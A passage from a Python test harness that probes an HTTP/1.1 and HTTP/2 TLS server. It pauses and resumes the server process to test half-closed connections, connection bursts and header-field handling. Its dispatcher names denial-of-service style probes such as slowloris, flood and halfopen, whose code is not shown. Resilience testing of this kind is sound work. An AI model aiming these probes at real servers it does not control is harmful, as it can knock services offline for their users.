    # when it wakes: what nc -N or shutdown(SHUT_WR) right after a request
    # makes likely, made certain.
    stop_process(pid)
    try:
        data = b"".join(r[0] for r in reqs)
        if obj:
            obj.write(data)
            if how == "notify":
                try:
                    obj.unwrap()  # close_notify: our side is done, theirs not
                except ssl.SSLWantReadError:
                    pass
            data = out.read()
        s.sendall(data)
        if how == "fin":
            s.shutdown(socket.SHUT_WR)
    finally:
        os.kill(pid, signal.SIGCONT)
    buf, closed, deadline = b"", "no", time.time() + 10
    while time.time() < deadline:
        try:
            d = s.recv(65536)
        except (socket.timeout, ConnectionResetError):
            break
        if not d:
            closed = "yes"
            break
        if not obj:
            buf += d
            continue
        inc.write(d)
        try:
            while True:
                chunk = obj.read(65536)
                if not chunk:
                    break
                buf += chunk
        except ssl.SSLWantReadError:
            pass
        except ssl.SSLZeroReturnError:
            pass  # the server's close_notify; its FIN follows
    n = 0
    for _, method in reqs:
        got = h1_answer(buf, method)
        if not got:
            break
        status, body, buf = got
        n += 1
        print("status=%s bytes=%d sha256=%s" % (status, len(body), hashlib.sha256(body).hexdigest()))
    print("answers=%d of %d closed=%s" % (n, len(reqs), closed))
    return 0


def burst(host, port, pid, n, path, cmd):
    req, _ = h1_request(path, False)
    conns = []
    for _ in range(n):
        s = tls(host, port, ["http/1.1"])
        s.settimeout(10)
        conns.append([s, b""])

    def answer(c):
        got = h1_read_answer(c[0], c[1], "GET")
        if not got:
            return False
        c[1] = got[2]
        return got[0] == "200" and len(got[1]) > 0

    for c in conns:
        c[0].sendall(req)
        answer(c)
    if cmd:
        subprocess.run(cmd, check=True, stdout=subprocess.DEVNULL)
        time.sleep(1)
    stop_process(pid)
    try:
        for c in conns:
            c[0].sendall(req)
        time.sleep(0.2)
    finally:
        os.kill(pid, signal.SIGCONT)
    ok = sum(1 for c in conns if answer(c))
    print("answered=%d of %d" % (ok, n))
    return 0


def fields(host, port, pairs):
    from hpack import Decoder  # only this command decodes whole answers

    s = tls(host, port, ["h2"])
    if s.selected_alpn_protocol() != "h2":
        print("no h2")
        return 1
    block = b"".join(literal_new(*(x.encode() for x in p.split("=", 1))) for p in pairs)
    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") +
              frame(1, 0x5, 1, block))
    st = {"out": "none", "ecp": "-"}
    dec = Decoder()

    def until(ftype, flags, sid, payload):
        if ftype == 4 and not flags & 1:
            for i in range(0, len(payload), 6):
                k, v = struct.unpack(">HI", payload[i:i + 6])
                if k == 8:  # SETTINGS_ENABLE_CONNECT_PROTOCOL (RFC 8441)
                    st["ecp"] = str(v)
        if sid != 1:
            return False
        if ftype == 1:
            h = dict(dec.decode(payload))
            st["out"] = "status=%s allow=%s" % (h.get(":status"), h.get("allow", "-"))
            return True
        if ftype == 3:
            st["out"] = "reset=%d" % struct.unpack(">I", payload[:4])[0]
            return True
        return False

    read_frames(s, until, time.time() + 5)
    print(st["out"])
    print("enable_connect_protocol=%s" % st["ecp"])
    return 0


if __name__ == "__main__":
    cmd = sys.argv[1]
    if cmd == "streams":
        sys.exit(streams(sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), sys.argv[5]))
    if cmd == "slowloris":
        sys.exit(slowloris(sys.argv[2], int(sys.argv[3]), float(sys.argv[4]), float(sys.argv[5])))
    if cmd == "bigheader":
        sys.exit(bigheader(sys.argv[2], int(sys.argv[3]), int(sys.argv[4])))
    if cmd == "pinger":
        sys.exit(pinger(sys.argv[2], int(sys.argv[3]), sys.argv[4], float(sys.argv[5]),
                        float(sys.argv[6])))
    if cmd == "trickle":
        sys.exit(trickle(sys.argv[2], int(sys.argv[3]), sys.argv[4], int(sys.argv[5]), float(sys.argv[6]),
                         float(sys.argv[7])))
    if cmd == "late":
        sys.exit(late(sys.argv[2], int(sys.argv[3]), sys.argv[4], float(sys.argv[5]),
                      int(sys.argv[6]), float(sys.argv[7])))
    if cmd == "burst":
        sys.exit(burst(sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), int(sys.argv[5]), sys.argv[6],
                       sys.argv[7:]))
    if cmd == "h1flood":
        sys.exit(h1flood(sys.argv[2], int(sys.argv[3]), sys.argv[4], int(sys.argv[5]), sys.argv[6],
                         float(sys.argv[7])))
    if cmd == "flood":
        sys.exit(flood(sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), sys.argv[5], int(sys.argv[6]),
                       float(sys.argv[7])))
    if cmd == "resetby":
        sys.exit(resetby(sys.argv[2], int(sys.argv[3]), sys.argv[4], int(sys.argv[5])))
    if cmd == "halfopen":
        sys.exit(halfopen(sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), int(sys.argv[5]),
                          int(sys.argv[6])))
    if cmd == "h2end":
        sys.exit(h2end(sys.argv[2], int(sys.argv[3]), sys.argv[4], sys.argv[5]))
    if cmd == "contsplit":
        sys.exit(contsplit(sys.argv[2], int(sys.argv[3]), int(sys.argv[4])))
    if cmd == "fields":
        sys.exit(fields(sys.argv[2], int(sys.argv[3]), sys.argv[4:]))
    if cmd == "halfclose":
        sys.exit(halfclose(sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), sys.argv[5], sys.argv[6],
                           sys.argv[7:]))
    if cmd == "h1pipe":
        sys.exit(h1pipe(sys.argv[2], int(sys.argv[3]), sys.argv[4:]))
    sys.exit(2)
